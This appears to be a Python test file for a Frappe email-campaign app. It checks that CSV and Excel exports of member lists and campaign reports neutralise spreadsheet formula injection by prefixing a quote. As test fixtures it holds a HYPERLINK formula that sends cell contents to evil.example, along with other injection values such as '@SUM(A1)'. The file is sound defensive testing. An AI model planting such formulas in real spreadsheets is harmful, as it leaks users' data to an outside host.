"""What leaves as a file, as CSV and as Excel, has no formulas, whoever wrote the texts in it."""

import csv
import io
import json
from unittest.mock import patch

import frappe
from openpyxl import load_workbook

from email_campaigns.api import exports
from email_campaigns.api.exports import plain_csv
from email_campaigns.results.breakdown_store import has_links
from email_campaigns.tests.site.kits.builders import a_list, a_mailing, address, change
from email_campaigns.tests.site.kits.results_kit import ResultsTest, clicked_link, happens
from email_campaigns.tests.site.kits.sending_test import the_bench
from email_campaigns.tests.site.kits.visitor import Visitor

LIST_EXPORT = "/api/method/frappe.desk.reportview.export_query"
REPORT_EXPORT = "/api/method/frappe.desk.query_report.export_query"
FORMULA = '=HYPERLINK("https://evil.example?"&A1;"Click")'
EVIL = "=1+1@evil.example"
FORMULAS = tuple("=+-@\t\r")
REPORTS = ("Campaign Results", "Link Clicks", "Unsubscribes", "Bounces")


def cells(content, kind, **options):
	"""Return all texts of a file."""
	if kind == "Excel":
		rows = [[cell.value for cell in row] for sheet in load_workbook(io.BytesIO(content)) for row in sheet]
	else:
		rows = csv.reader(io.StringIO(content.decode(), newline=""), **options)
	return [cell for row in rows for cell in row if isinstance(cell, str)]


class TestExports(ResultsTest):
	def setUp(self):
		super().setUp()
		self.visitor = Visitor()
		self.visitor.sign_in("Administrator", the_bench().admin_password)

	def export(self, path, **form):
		"""Return the answer to a request for an export."""
		frappe.db.commit()
		return self.visitor.get(path, query_string=form)

	def members(self, kind, path=LIST_EXPORT, **form):
		values = {"first_name": FORMULA, "last_name": "@SUM(A1)"}
		frappe.db.set_value("Target List Member", {"target_list": a_list(address("jo"))}, values)
		fields = ["name", "email", "first_name", "last_name", "creation"]
		form = {"fields": json.dumps([f"`tabTarget List Member`.`{name}`" for name in fields]), **form}
		form |= {
			"doctype": "Target List Member",
			"file_format_type": kind,
			"filters": "[]",
			"title": "Members",
		}
		return self.export(path, **form).get_data()

	def test_a_list_of_members(self):
		for kind in ("CSV", "Excel"):
			texts = cells(self.members(kind), kind)
			self.assertEqual([text for text in texts if text.startswith(FORMULAS)], [], kind)
			self.assertIn(f"'{FORMULA}", texts)
			self.assertIn(address("jo"), texts)

	def test_by_the_other_address_of_the_function_and_in_the_background(self):
		function = LIST_EXPORT.rpartition("/")[2]
		texts = cells(self.members("CSV", path="/", cmd=function, export_in_background=1), "CSV")
		self.assertIn(f"'{FORMULA}", texts)

	def test_numbers_stay_numbers_and_the_csv_is_as_it_was_asked_for(self):
		line = self.members("CSV", csv_delimiter=";", csv_quoting="2").decode().splitlines()[1]
		self.assertRegex(line, r'^1;\d+;"')
		texts = cells(self.members("CSV", csv_delimiter="\t", csv_quoting="0"), "CSV", delimiter="\t")
		self.assertIn("'@SUM(A1)", texts)
		self.assertEqual(plain_csv(b'"-5",-5,-5.5,"-x"\r\n', ",", 2), b'"-5",-5,-5.5,"\'-x"\r\n')
		long = b'"' + b"x" * 200_000 + b'"\r\n'
		self.assertEqual(plain_csv(long, ",", 2), long)

	def test_an_export_of_another_app_stays(self):
		self.addCleanup(change, "User", "Guest", bio=frappe.db.get_value("User", "Guest", "bio"))
		change("User", "Guest", bio=FORMULA)
		answer = self.export(
			LIST_EXPORT,
			doctype="User",
			file_format_type="CSV",
			filters=json.dumps([["User", "name", "=", "Guest"]]),
			fields=json.dumps(["`tabUser`.`bio`"]),
		)
		self.assertIn(FORMULA, cells(answer.get_data(), "CSV"))

	def test_what_can_not_be_made_safe_does_not_leave(self):
		with patch.object(exports, "plain_csv", side_effect=ValueError):
			self.assertEqual(self.members("CSV"), b"")

	def test_who_may_not_export_gets_no_file(self):
		self.visitor = Visitor()
		self.assertNotIn(FORMULA, self.members("CSV").decode())

	def test_every_report(self):
		mailing = self.send(a_mailing(a_list(address("jo")), title=FORMULA))
		mail = self.mails(mailing)[address("jo")]
		for kind in ("opened", "clicked", "unsubscribed", "bounced"):
			happens(mail, kind)
		if has_links():
			clicked_link(mailing, "=L1")
		values = {
			"email": EVIL,
			"details": FORMULA,
			"campaign": "=Spring",
			"recipient_doctype": "Contact",
			"recipient_name": "=Jo",
		}
		for row in frappe.get_all("Campaign Log", {"source": mailing}, pluck="name"):
			frappe.db.set_value("Campaign Log", row, values)
		scripts = {"module": "Email Campaigns", "report_type": "Script Report"}
		self.assertEqual(sorted(frappe.get_all("Report", scripts, pluck="name")), sorted(REPORTS))
		for name in REPORTS:
			for kind in ("CSV", "Excel"):
				texts = cells(self.report(name, kind), kind)
				self.assertEqual([text for text in texts if text.startswith(FORMULAS)], [], (name, kind))
				self.assertTrue(any(text.startswith("'") for text in texts), (name, kind))

	def report(self, name, kind):
		form = {"report_name": name, "file_format_type": kind, "filters": "{}", "visible_idx": "[0]"}
		return self.export(REPORT_EXPORT, **form).get_data()
